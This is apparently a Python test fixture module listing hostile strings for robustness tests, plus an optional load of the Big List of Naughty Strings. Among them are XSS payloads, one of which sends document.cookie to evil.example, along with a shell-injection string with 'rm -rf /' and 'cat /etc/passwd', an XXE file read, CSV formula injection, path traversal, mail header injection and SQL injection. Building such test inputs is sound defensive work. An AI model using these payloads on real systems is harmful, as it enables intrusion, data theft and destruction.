"""Strings that try to be more than text: markup, templates, styles, formulas, paths, headers, signs of all kinds."""

from __future__ import annotations

import json

from tests.e2e.reading import FIXTURES

BLNS = FIXTURES / "hostile" / "blns.json"

OWN: tuple[str, ...] = (
    # markup and scripts
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "<svg onload=document.title='owned'><circle r=9/></svg>",
    "<svg/onload=fetch('https://evil.example/'+document.cookie)>",
    '"><script src=https://evil.example/x.js></script>',
    "' onmouseover='document.title=1",
    "</title></style></textarea><script>document.title='owned'</script>",
    "<a href=\"javascript:document.title='owned'\">pay</a>",
    "<iframe src=https://evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- --><!--><b>bold</b>",
    "]]><![CDATA[<b>bold</b>",
    "<text slot='title'>second</text></storyboard>",
    "&lt;b&gt; &amp;amp; &#60;i&#62; &copy; &nbsp;",
    # templates, formats, placeholders
    "{{ 7*7 }}{{7*7}}",
    "{% for x in range(99999999) %}x{% endfor %}",
    "{# comment #}{{ ''.__class__.__mro__ }}",
    "{amount} {first_name} {0} %s %(name)s %n ${7*7} #{7*7} <%= 7*7 %>",
    "`id` $(id) ; rm -rf / | cat /etc/passwd",
    # styles and addresses
    "x;}body{display:none}",
    "</style><style>*{background:url(https://evil.example/x)}",
    "expression(alert(1)) url(javascript:alert(1))",
    "https://evil.example/pay www.evil.example javascript:alert(1)",
    "@import 'https://evil.example/x.css';",
    # XML and entities
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "&e; &unknown; &#0; &#x1F; &#xD800;",
    # tables, mail, files
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example","Pay")',
    "+1+1", "-2+3", "@SUM(1,2)",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "CON", "a/b\\c:d*e?f|g",
    "Ada\r\nBcc: everyone@evil.example\r\n\r\n<b>body</b>",
    "Ada\nSubject: owned",
    # WebVTT
    "00:00:00.000 --> 00:99:00.000", "WEBVTT\n\nNOTE owned", "<v Roger>hi</v> --> <00:00:01.000>",
    # signs
    "\u202eevil\u202c \u2066isolated\u2069 \u200fmark",
    "nul\x00bell\x07escape\x1b[31mdel\x7f\x9b",
    "z" + "\u0300\u0301\u0302\u0303" * 20 + "algo",
    "👩‍👩‍👧‍👦 👨🏿‍🚒 🏳️‍🌈 🇱🇹",
    "שָׁלוֹם עולם مرحبا بالعالم",
    "नमस्ते 日本語 한국어 ไทย ქართული",
    "W" * 390,
    "word " * 78,
    "a\u00adb\u200bc\ufeffd\u2060e\u3000f",
    "ﷺ ﷽ 𝕋𝕙𝕖 ｆｕｌｌ Ⅷ ½ ﬁ",
    "\\u003cscript\\u003e \\x3c \\0 %3Cscript%3E",
    "noncharacters \ufffe \uffff \ufdd0 \U0001fffe",
    "null", "None", "undefined", "NaN", "true", "0", "1e309", "'; DROP TABLE customers; --", "-",
)  # fmt: skip


def hostile_strings() -> list[str]:
    """Return our own strings and, where the public list is here, the big list of naughty strings."""
    public = json.loads(BLNS.read_text(encoding="utf-8")) if BLNS.is_file() else []
    return list(dict.fromkeys([*OWN, *(text for text in public if text.strip())]))
